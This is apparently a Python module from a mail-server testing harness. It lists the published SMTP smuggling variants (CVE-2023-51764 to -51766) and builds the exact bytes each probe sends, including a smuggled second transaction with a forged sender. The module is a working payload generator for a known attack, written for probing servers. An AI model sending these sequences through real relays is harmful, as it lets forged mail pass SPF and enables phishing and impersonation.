"""The published SMTP smuggling variants (SEC Consult, December 2023; CVE-2023-51764, -51765, -51766), as data, and
the bytes each one sends.

RFC 5321 s2.3.8 and s4.1.1.4: lines end with <CR><LF>, and a server MUST NOT take a bare <LF> for the end of a
line; "<LF>.<LF>" in particular MUST NOT end the mail data. A server that ends DATA at anything but
<CR><LF>.<CR><LF> reads the rest of the message as commands: an attacker who can send mail through an outbound
server that passes the odd sequence on unchanged (relays do) gets a second message, with a sender of their choice,
accepted from that server's address (so that it passes SPF).

Each ending variant sends one message (the carrier) whose body holds the smuggled end of data followed by a whole
second transaction: MAIL FROM a forged sender, RCPT, DATA and a message with a marker in its Subject and
Message-ID. The bare <CR> and bare <LF> variants put the character inside a line of the carrier (it cannot end
DATA by itself): they report what the server does with it.
"""

from __future__ import annotations

import email.utils
from dataclasses import dataclass

EHLO_NAME = "probe.mailharness.test"


@dataclass(frozen=True)
class Variant:
    """One way of smuggling: the bytes that stand for the end of data, or a bare character inside a line."""

    name: str
    """Its short name ("lf-dot-crlf"), as reports and `SmugglingReport.result` name it."""
    label: str
    """The bytes as the advisories write them ("<LF>.<CR><LF>")."""
    ending: bytes = b""
    """The smuggled end of data; empty for a variant that puts a bare character inside a line."""
    inside: bytes = b""
    """A bare character put inside a line of the carrier (no smuggled end of data)."""
    split: bool = True
    """True: the smuggled DATA command ends the probe's first write, and the smuggled message follows once the
    server answered it (or after the pause), as a stream arrives in two segments over a slow link; a server's
    check against commands sent ahead of their turn (pipelining) then has nothing to see. False: everything in one
    write, as a fast relay sends it."""
    what: str = ""
    """What the variant tries, in a sentence."""

    @property
    def smuggles(self) -> bool:
        """The variant carries a smuggled second transaction (it has an ending)."""
        return bool(self.ending)


VARIANTS: tuple[Variant, ...] = (
    Variant("lf-dot-lf", "<LF>.<LF>", ending=b"\n.\n",
            what="bare line feeds around the dot (the sequence RFC 5321 s4.1.1.4 names)"),
    Variant("lf-dot-crlf", "<LF>.<CR><LF>", ending=b"\n.\r\n",
            what="a bare line feed before the dot, <CR><LF> after it (SEC Consult's sequence against Postfix)"),
    Variant("crlf-dot-lf", "<CR><LF>.<LF>", ending=b"\r\n.\n",
            what="<CR><LF> before the dot, a bare line feed after it"),
    Variant("cr-dot-cr", "<CR>.<CR>", ending=b"\r.\r",
            what="bare carriage returns around the dot (the sequence against Sendmail and Exchange)"),
    Variant("bare-cr", "bare <CR> inside DATA", inside=b"\r",
            what="a bare carriage return inside a line: refused, kept, or replaced"),
    Variant("bare-lf", "bare <LF> inside DATA", inside=b"\n",
            what="a bare line feed inside a line: refused, or taken for a line end"),
    Variant("pipelined", "<LF>.<CR><LF>, then the second transaction in the same write", ending=b"\n.\r\n",
            split=False, what="the smuggled transaction sent ahead of the server's replies, as a fast relay sends "
            "it (a server's pipelining check may refuse it where the split variants get through)"),
)
"""The published variants, in the order the probe sends them (all at once, one session each)."""


def variant(name: str) -> Variant:
    """A published variant by name; KeyError naming them all otherwise."""
    for v in VARIANTS:
        if v.name == name:
            return v
    raise KeyError(f"no smuggling variant {name!r}; variants: {', '.join(v.name for v in VARIANTS)}")


@dataclass(frozen=True)
class Wire:
    """The bytes of one variant's DATA: `first` (sent at once) and `rest` (sent after the pause; empty when the
    variant sends everything in one write). Both end with the probe's own end of data and QUIT."""

    first: bytes
    """Sent at once, after the carrier's DATA was answered."""
    rest: bytes
    """Sent after the pause; empty when everything goes in one write."""
    carrier_id: str
    """The carrier's Message-ID, <...>."""
    smuggled_id: str
    """The smuggled message's Message-ID, <...> ("" for a variant that smuggles nothing)."""
    smuggled: bytes
    """The smuggled message (headers and body, <CR><LF> lines)."""


def _headers(sender: str, rcpt: str, subject: str, message_id: str) -> bytes:
    return (f"From: <{sender}>\r\nTo: <{rcpt}>\r\nSubject: {subject}\r\nDate: {email.utils.formatdate()}\r\n"
            f"Message-ID: {message_id}\r\n\r\n").encode()


def wire(v: Variant, *, token: str, sender: str, rcpt: str, forged: str) -> Wire:
    """What `v` sends after the carrier's DATA was answered with 354: the carrier from `sender` to `rcpt`, and
    (for an ending variant) a second transaction from `forged` to `rcpt` inside it. `token` marks both messages
    (Subject and Message-ID) so that they can be found again."""
    carrier_id = f"<carrier-{token}@{sender.rpartition('@')[2] or 'mailharness.test'}>"
    head = _headers(sender, rcpt, f"mailharness smuggling probe: {v.name} (carrier {token})", carrier_id)
    end = b"\r\n.\r\nQUIT\r\n"  # the probe's own end of data, then QUIT in the same write (RFC 2920 allows it)
    if not v.smuggles:
        return Wire(head + b"line one" + v.inside + b"line two" + end, b"", carrier_id, "", b"")
    smuggled_id = f"<smuggled-{token}@{forged.rpartition('@')[2] or 'mailharness.test'}>"
    smuggled = _headers(forged, rcpt, f"mailharness smuggled {token}", smuggled_id) + \
        f"This message was smuggled in ({v.name}): its sender is forged.".encode()
    first = head + f"This message carries a second one ({v.name})".encode() + v.ending + \
        f"MAIL FROM:<{forged}>\r\nRCPT TO:<{rcpt}>\r\nDATA\r\n".encode()
    if v.split:
        return Wire(first, smuggled + end, carrier_id, smuggled_id, smuggled + b"\r\n")
    return Wire(first + smuggled + end, b"", carrier_id, smuggled_id, smuggled + b"\r\n")


def control_wire(*, token: str, sender: str, rcpt: str) -> Wire:
    """The pace setter's bytes: a carrier that ends DATA the one right way (<CR><LF>.<CR><LF>), then MAIL, RCPT and
    RSET in the same write (a pipelined group RFC 2920 allows: RSET may end one, where DATA or NOOP would end it
    early), then (after their replies) QUIT. How long the server takes to answer the four is how long a server
    that ends DATA early takes to answer a split variant's smuggled end of data and its MAIL, RCPT and DATA. The
    RSET leaves nothing queued but the carrier."""
    carrier_id = f"<carrier-{token}@{sender.rpartition('@')[2] or 'mailharness.test'}>"
    head = _headers(sender, rcpt, f"mailharness smuggling probe: pace (carrier {token})", carrier_id)
    return Wire(head + b"This message ends DATA the right way.\r\n.\r\n" +
                f"MAIL FROM:<{sender}>\r\nRCPT TO:<{rcpt}>\r\nRSET\r\n".encode(), b"QUIT\r\n",
                carrier_id, "", b"")


CONTROL = Variant("pace", "<CR><LF>.<CR><LF>", ending=b"\r\n.\r\n",
                  what="the real end of data and MAIL, RCPT and RSET: how fast this server answers them, which sets "
                  "how long each split variant waits for replies")
"""Not a variant: the session that sets the pause (harness.smuggling.session.Pacer)."""


def visible(data: bytes) -> list[str]:
    """`data` as transcript lines: one a line, each line's own end left out when it is <CR><LF> and written out
    when it is a bare <CR> or <LF> ("hello<LF>"), other control characters as <XX>."""
    out: list[str] = []
    line = ""
    i = 0
    while i < len(data):
        b = data[i]
        if b == 0x0D and data[i + 1:i + 2] == b"\n":
            out.append(line)
            line, i = "", i + 2
            continue
        if b in (0x0A, 0x0D):
            out.append(line + ("<LF>" if b == 0x0A else "<CR>"))
            line, i = "", i + 1
            continue
        line += chr(b) if 32 <= b < 127 else f"<{b:02X}>"
        i += 1
    if line:
        out.append(line + "  (no line end)")
    return out
